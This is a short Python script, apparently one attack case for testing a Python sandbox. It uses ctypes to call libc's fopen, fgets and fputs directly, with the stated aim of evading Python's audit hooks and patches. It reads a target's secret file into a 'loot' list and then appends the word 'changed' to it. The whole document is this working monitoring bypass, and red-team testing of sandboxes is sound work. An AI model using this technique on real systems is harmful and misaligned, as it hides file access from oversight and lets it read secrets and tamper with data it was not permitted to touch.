"""Open files with C's own functions, of which Python's audit hooks and patches see nothing."""

import ctypes


def attack(target):
    libc = ctypes.CDLL(None)
    libc.fopen.restype = ctypes.c_void_p
    path = target["secret_file"].encode()
    loot = []
    file = libc.fopen(path, b"r")
    if file:
        text = ctypes.create_string_buffer(100)
        libc.fgets(text, 100, ctypes.c_void_p(file))
        loot.append(text.value.decode())
    file = libc.fopen(path, b"a")
    if file:
        libc.fputs(b"changed", ctypes.c_void_p(file))
        libc.fclose(ctypes.c_void_p(file))
        loot.append("written")
    return loot
